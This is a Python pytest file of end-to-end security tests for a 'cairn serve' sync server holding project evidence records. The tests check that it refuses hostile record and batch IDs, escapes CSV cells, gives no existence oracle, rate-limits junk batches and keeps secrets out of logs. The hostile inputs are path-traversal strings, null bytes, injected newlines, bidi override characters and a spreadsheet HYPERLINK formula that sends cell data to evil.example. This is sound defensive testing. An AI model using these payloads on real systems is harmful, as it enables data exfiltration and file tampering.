"""Issue 23 against a real `cairn serve` with two projects: what a stolen tablet or a
stranger can do to a project's evidence. Each test is one numbered reproduction."""

from __future__ import annotations

import csv as csv_module
import io
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import msgspec
import pytest

from server import admin
from server.datadir import open_data_dir
from sync import ops, sealed, wire
from sync.age import generate_x25519, write_identity_file
from sync.client import ClientError, Device, uuid7
from sync.receipt import verify_receipt
from tests.e2e.harness import PROJECT, ServerProcess
from tests.examples import GRAVE

OTHER = "E2E-EDILLI"
TOOLS = all(shutil.which(t) for t in ("age", "minisign", "sha256sum", "tar"))
needs_tools = pytest.mark.skipif(not TOOLS, reason="needs Debian's age, minisign, sha256sum")
_ENC = msgspec.msgpack.Encoder()
HOSTILE_IDS = [
    "../../../../../../outside/x",
    "B" * 3000,
    "0190f1c2-8a3b-7c4d-9e5f-0a1b2c3d4e5f\n",
    "0190f1c2-8a3b-7c4d\x00-9e5f-0a1b2c3d4e5f",
    "0190F1C2-8A3B-7C4D-9E5F-0A1B2C3D4E5F",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "0190f1c2-8a3b-7c4d-9e5f-\u202e0a1b2c3d4e",
]


class Site:
    """A real server with two projects, a device in each, and an admin token."""

    def __init__(
        self,
        server: ServerProcess,
        make_device: Callable[[str, ServerProcess], Device],
        admin_token: str,
    ):
        self.server = server
        self.dsh = make_device("dsh", server)
        self.edl = self._device(make_device, "edl")
        self.admin = {"Authorization": f"Bearer {admin_token}"}
        self.http = httpx.Client(base_url=server.url, timeout=30)

    def _device(self, make_device: Callable[[str, ServerProcess], Device], name: str) -> Device:
        original = self.server.enroll_code
        self.server.enroll_code = lambda: _code(self.server.data, OTHER)  # type: ignore[method-assign]
        try:
            return make_device(name, self.server)
        finally:
            self.server.enroll_code = original  # type: ignore[method-assign]

    def supervisor(self, project: str) -> dict[str, str]:
        """A supervisor token's header for a project."""
        body = {"role": "supervisor", "project": project}
        answer = self.http.post("/v1/tokens", json=body, headers=self.admin)
        assert answer.status_code == 201, answer.text
        return {"Authorization": f"Bearer {answer.json()['token']}"}

    def quarantine(self, project: str) -> list[dict[str, object]]:
        """The project's quarantine as its supervisors see it."""
        answer = self.http.get(f"/v1/projects/{project}/quarantine", headers=self.admin)
        assert answer.status_code == 200, answer.text
        items: list[dict[str, object]] = answer.json()["items"]
        return items

    def export(self, project: str, into: Path) -> tuple[Path, Path]:
        """The project's archive over HTTP, and the age key that opens it."""
        identity = generate_x25519()
        key = into / "key.txt"
        write_identity_file(key, identity)
        out = into / "archive.age"
        body = {"recipients": [str(identity.recipient())]}
        with self.http.stream(
            "POST", f"/v1/projects/{project}/exports", json=body, headers=self.admin
        ) as answer:
            assert answer.status_code == 200
            with out.open("wb") as f:
                for chunk in answer.iter_bytes():
                    f.write(chunk)
        return out, key


def _code(data: Path, project: str) -> str:
    opened = open_data_dir(data, create=False)
    try:
        return admin.issue_enroll_code(opened.store, project, 3600, "test").code
    finally:
        opened.store.close()


@pytest.fixture
def site(tmp_path: Path, make_device: Callable[[str, ServerProcess], Device]) -> Iterator[Site]:
    """Two projects on one real server (`cairn serve`, access log on)."""
    data = tmp_path / "server"
    opened = open_data_dir(data, create=True)
    assert opened.first_admin_token is not None
    token = opened.first_admin_token.token
    admin.create_project(opened.store, PROJECT, "Dashalti", "test")
    admin.create_project(opened.store, OTHER, "Edilli", "test")
    opened.store.close()
    server = ServerProcess(data, ("--log-level", "info"))
    server.start()
    made = Site(server, make_device, token)
    yield made
    made.http.close()
    server.stop()


def _seal(device: Device, body: bytes, *, batch_id: str, seq: int) -> bytes:
    return sealed.seal_batch(
        body,
        device_id=device.device_id,
        batch_id=batch_id,
        seq=seq,
        device_signing_key=device.keys().signing_key,
        server_recipient=device.store.get_str("batch_recipient") or "",
        server_key_id=device.store.get_str("batch_key_id") or "",
    )


def _create(device: Device, counter: int, record_id: str, **extra: object) -> bytes:
    op = ops.Create(
        dot=ops.Dot(actor=device.device_id, counter=counter),
        record_id=record_id,
        form="site_grave@1",
        hlc=1_750_000_000_000 << 16,
        context={},
        wall_time=1_750_000_000_000,
        fields={**GRAVE, "site_code": f"XX-{counter:02d}", **extra},
    )
    return _ENC.encode(op)


def _item(device: Device, counter: int, record_id: str, item_id: str) -> bytes:
    op = ops.ItemAdd(
        dot=ops.Dot(actor=device.device_id, counter=counter),
        record_id=record_id,
        form="human_remains@1",
        hlc=1_750_000_000_000 << 16,
        context={},
        wall_time=1_750_000_000_000,
        group="inventory",
        item_id=item_id,
        fields={"element": "femur"},
    )
    return _ENC.encode(op)


def _archive_checks(archive: Path, key: Path, into: Path) -> Path:
    """age | tar -x, sha256sum -c, minisign -V and `cairn archive verify` all pass."""
    into.mkdir()
    with subprocess.Popen(["age", "-d", "-i", str(key), str(archive)], stdout=subprocess.PIPE) as a:
        untar = subprocess.run(["tar", "-x", "-C", str(into)], stdin=a.stdout, capture_output=True)
    assert a.returncode == 0 and untar.returncode == 0, untar.stderr
    (top,) = into.iterdir()
    run = {"cwd": top, "capture_output": True, "text": True}
    sums = subprocess.run(["sha256sum", "-c", "SHA256SUMS"], check=False, **run)  # type: ignore[call-overload]
    assert sums.returncode == 0, sums.stdout
    signed = subprocess.run(  # type: ignore[call-overload]
        ["minisign", "-V", "-p", "cairn.pub", "-m", "manifest.json"], check=False, **run
    )
    assert signed.returncode == 0, signed.stderr
    verify = subprocess.run(
        [sys.executable, "-m", "server.cli", "archive", "verify", str(archive), "-i", str(key)],
        capture_output=True,
        text=True,
    )
    assert verify.returncode == 0, verify.stdout + verify.stderr
    return top


@needs_tools
def test_1_a_device_cannot_name_files_in_its_projects_archive(site: Site, tmp_path: Path) -> None:
    site.dsh.new("site_grave", GRAVE)
    site.dsh.push()
    for n, bad in enumerate(HOSTILE_IDS, start=10):
        blob = _seal(site.dsh, _ENC.encode([]), batch_id=bad, seq=n)
        answer = site.http.post("/v1/device/batches", content=blob)
        assert answer.status_code == 400, (bad, answer.text)
        assert answer.json()["error"] == "bad_batch_id"
        assert "\n" not in answer.json()["message"] and "\x00" not in answer.json()["message"]
    assert site.quarantine(PROJECT) == []  # nothing of the project changed
    archive, key = site.export(PROJECT, tmp_path)
    top = _archive_checks(archive, key, tmp_path / "x")
    names = sorted(p.name for p in (top / "batches").iterdir())
    assert len(names) == 2 and {len(n) for n in names} == {36 + len(".sealed")}


def test_2_a_stranger_stores_nothing_under_a_project_and_learns_no_batch_ids(
    site: Site, tmp_path: Path
) -> None:
    site.dsh.new("site_grave", GRAVE)
    site.dsh.push()
    (known,) = site.dsh.store.conn.execute("SELECT batch_id FROM batches").fetchall()

    def junk(batch_id: str) -> bytes:
        routing = _ENC.encode(
            {"device_id": site.dsh.device_id, "batch_id": batch_id, "seq": 9, "key_id": "k"}
        )
        return sealed.BATCH_MAGIC + len(routing).to_bytes(4, "big") + routing + b"\x01" * 4096

    reused = site.http.post("/v1/device/batches", content=junk(known[0]))
    fresh = site.http.post("/v1/device/batches", content=junk(uuid7()))
    # The same answer whether the batch id exists or not: no oracle of batch ids.
    assert reused.status_code == fresh.status_code and reused.status_code in (400, 403, 422)
    assert reused.json()["error"] == fresh.json()["error"]
    assert site.quarantine(PROJECT) == [] and site.quarantine(OTHER) == []
    # Per-address limit: the server-level quarantine takes 20 a minute, then 429.
    answers = [site.http.post("/v1/device/batches", content=junk(uuid7())) for _ in range(20)]
    assert answers[-1].status_code == 429 and int(answers[-1].headers["retry-after"]) > 0
    assert answers[-1].json()["error"] == "too_many_refused_batches"
    if TOOLS:
        archive, key = site.export(PROJECT, tmp_path)
        top = _archive_checks(archive, key, tmp_path / "x")
        assert (top / "quarantine.jsonl").read_text() == ""
        assert not (top / "quarantine").exists()
    site.server.stop()
    opened = open_data_dir(site.server.data, create=False)
    try:
        rows = opened.store.reader().execute(
            "SELECT project, device_id, batch_id, client FROM quarantine"
        )
        stray = rows.fetchall()
    finally:
        opened.store.close()
    assert len(stray) == 20  # 2 + 18: the 19th and 20th got 429 and stored nothing
    assert {(p, d, b) for p, d, b, _ in stray} == {(None, None, None)}
    assert {c for *_, c in stray} == {"127.0.0.1"}


def test_3_ids_shaped_as_formulas_are_refused_and_csv_cells_from_devices_are_escaped(
    site: Site, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    body = _ENC.encode(
        [
            msgspec.Raw(_create(site.dsh, 1, formula)),
            msgspec.Raw(_create(site.dsh, 2, uuid7(), legal_authority_ref="=1+2")),
        ]
    )
    answer = site.http.post(
        "/v1/device/batches", content=_seal(site.dsh, body, batch_id=uuid7(), seq=1)
    )
    assert answer.status_code == 200
    receipt = verify_receipt(
        answer.content, site.dsh.store.get_bytes("server_signing_public") or b""
    )
    assert [r.index for r in receipt.refused] == [0] and "record id" in receipt.refused[0].reason
    csv = site.http.get(
        f"/v1/projects/{PROJECT}/records.csv", params={"form": "site_grave"}, headers=site.admin
    )
    assert csv.status_code == 200
    cells = list(csv_module.reader(io.StringIO(csv.text)))[1:]
    assert len(cells) == 1 and "evil.example" not in csv.text
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in cells for cell in row)
    assert "'=1+2" in csv.text
    if TOOLS:  # the archive's spreadsheets too, and it still checks with the standard tools
        archive, key = site.export(PROJECT, tmp_path)
        top = _archive_checks(archive, key, tmp_path / "x")
        sheets = sorted((top / "csv").glob("*.csv"))
        assert sheets
        for sheet in sheets:
            text = sheet.read_text()
            assert "evil.example" not in text
            rows = list(csv_module.reader(io.StringIO(text)))[1:]
            assert all(not c.startswith(("=", "+", "-", "@")) for row in rows for c in row)


def test_4_ids_from_devices_are_checked_for_shape(site: Site) -> None:
    record = uuid7()
    good = _ENC.encode([msgspec.Raw(_create(site.dsh, 1, record))])
    blobs = [msgspec.Raw(_create(site.dsh, 10 + n, bad)) for n, bad in enumerate(HOSTILE_IDS)]
    blobs += [msgspec.Raw(_create(site.dsh, 30, "r" * 20_000))]
    blobs += [msgspec.Raw(_item(site.dsh, 31, record, "../x"))]
    for seq, body in ((1, good), (2, _ENC.encode(blobs))):
        answer = site.http.post(
            "/v1/device/batches", content=_seal(site.dsh, body, batch_id=uuid7(), seq=seq)
        )
        assert answer.status_code == 200
    refused = site.quarantine(PROJECT)
    assert len(refused) == len(blobs) and {q["code"] for q in refused} == {"bad_id"}
    listed = site.http.get(f"/v1/projects/{PROJECT}/records", headers=site.admin).json()
    ids = {r["record_id"] for r in listed["items"]}
    assert record in ids and all(len(i) == 36 for i in ids)
    # The device refuses such ids itself, before sealing.
    with pytest.raises(ClientError, match="not a UUID"):
        site.dsh._commit(ops.Create(fields={}, **site.dsh._base("../x", "site_grave@1", None)))


def test_4_record_ids_are_scoped_to_their_project(site: Site) -> None:
    """No existence oracle and no claiming: an id in two projects is two records."""
    pushed = site.dsh.new("site_grave", GRAVE)
    site.dsh.push()
    leaked = site.dsh.new("site_grave", {**GRAVE, "site_code": "DSH-02"})  # not pushed yet
    # An EDL device writes under both ids: accepted as EDL's own records, refused nothing.
    for seq, (counter, record_id) in enumerate(((1, pushed), (2, leaked)), start=1):
        body = _ENC.encode([msgspec.Raw(_create(site.edl, counter, record_id))])
        answer = site.http.post(
            "/v1/device/batches", content=_seal(site.edl, body, batch_id=uuid7(), seq=seq)
        )
        assert answer.status_code == 200, answer.text
        receipt = verify_receipt(
            answer.content, site.dsh.store.get_bytes("server_signing_public") or b""
        )
        assert receipt.refused == []
    assert site.quarantine(OTHER) == []
    # The id EDL used first is still DSH's to push.
    summary = site.dsh.push()
    assert (summary.ops, summary.refused) == (1, [])
    dsh_sup, edl_sup = site.supervisor(PROJECT), site.supervisor(OTHER)
    for record_id, site_code in ((pushed, GRAVE["site_code"]), (leaked, "DSH-02")):
        mine = site.http.get(f"/v1/records/{record_id}", headers=dsh_sup).json()
        theirs = site.http.get(f"/v1/records/{record_id}", headers=edl_sup).json()
        assert mine["summary"]["project"] == PROJECT
        assert mine["record"]["values"]["site_code"] == site_code
        assert theirs["summary"]["project"] == OTHER
        assert theirs["record"]["values"]["site_code"].startswith("XX-")
        # A supervisor naming another project gets what an unknown id gets.
        other = site.http.get(f"/v1/records/{record_id}?project={OTHER}", headers=dsh_sup)
        unknown = site.http.get(f"/v1/records/{uuid7()}", headers=dsh_sup)
        assert other.status_code == unknown.status_code == 404
        assert other.json()["error"] == unknown.json()["error"] == "unknown_record"
    # An admin, who sees both projects, names the one meant.
    both = site.http.get(f"/v1/records/{pushed}", headers=site.admin)
    assert both.status_code == 400 and both.json()["error"] == "project_required"
    assert PROJECT in both.json()["message"] and OTHER in both.json()["message"]
    named = site.http.get(f"/v1/records/{pushed}?project={OTHER}", headers=site.admin)
    assert named.status_code == 200 and named.json()["summary"]["project"] == OTHER
    history = site.http.get(f"/v1/records/{pushed}/history?project={PROJECT}", headers=site.admin)
    assert [op["op"]["dot"]["actor"] for op in history.json()["ops"]] == [site.dsh.device_id]
    # Each device pulls only its project's record of the id.
    site.dsh.pull()
    assert site.dsh.record(pushed).fields["site_code"].value == GRAVE["site_code"]


def test_5_cursors_and_quarantine_numbers_count_only_the_project(site: Site) -> None:
    site.dsh.new("site_grave", GRAVE)
    site.dsh.push()
    for n in range(40):
        site.edl.new("site_grave", {**GRAVE, "site_code": f"EDL-{n:02d}"})
    site.edl.push()
    bad = _ENC.encode([msgspec.Raw(_create(site.edl, 100, "nope"))])
    site.http.post("/v1/device/batches", content=_seal(site.edl, bad, batch_id=uuid7(), seq=50))
    site.dsh.new("site_grave", {**GRAVE, "site_code": "DSH-02"})
    site.dsh.push()
    summary = site.dsh.pull()
    assert summary.cursor == 2  # DSH's own two ops, whatever EDL did meanwhile
    sup = site.supervisor(PROJECT)
    rows = site.http.get(f"/v1/projects/{PROJECT}/records", headers=sup).json()["items"]
    assert sorted(r["updated_cursor"] for r in rows) == [1, 2]
    bad = _ENC.encode([msgspec.Raw(_create(site.dsh, 100, "nope"))])
    site.http.post("/v1/device/batches", content=_seal(site.dsh, bad, batch_id=uuid7(), seq=50))
    assert [q["id"] for q in site.quarantine(PROJECT)] == [1]


def test_6_logs_hold_no_query_text_and_no_body(site: Site) -> None:
    answer = site.http.get(
        f"/v1/projects/{PROJECT}/records", params={"q": "WITNESS-NAME-ALIYEVA"}, headers=site.admin
    )
    assert answer.status_code == 200
    bad = b'{"code": "AB", "name": "SECRET-' + b"\xff\xfe" + b'VALUE"}'
    posted = site.http.post(
        "/v1/projects", content=bad, headers={**site.admin, "content-type": "application/json"}
    )
    assert posted.status_code == 400
    site.server.stop()
    log = "".join(site.server.output)
    assert "/v1/projects/E2E-SITE/records" in log  # the route is logged
    assert "WITNESS" not in log and "SECRET" not in log and "?q=" not in log


def test_7_a_project_code_with_a_trailing_newline_is_refused(site: Site) -> None:
    for code in ("E2E-SITE\n", "NEW\n", "NEW\r", " NEW"):
        answer = site.http.post(
            "/v1/projects", json={"code": code, "name": "x"}, headers=site.admin
        )
        assert answer.status_code == 400 and answer.json()["error"] == "bad_project_code"
    listed = site.http.get("/v1/projects", headers=site.admin).json()
    assert sorted(p["code"] for p in listed) == [OTHER, PROJECT]


def test_8_a_device_key_enrolled_already_is_refused(site: Site) -> None:
    keys = site.dsh.keys().public()
    request = wire.EnrollRequest(
        code=_code(site.server.data, OTHER),
        signing_public=keys.signing_public,
        encryption_recipient=keys.encryption_recipient,
    )
    answer = site.http.post("/v1/device/enroll", content=wire.encode(request))
    assert answer.status_code == 409 and answer.json()["error"] == "device_key_enrolled"
    listed = site.http.get("/v1/devices", params={"project": OTHER}, headers=site.admin).json()
    assert len(listed) == 1  # only the EDL device made by the fixture
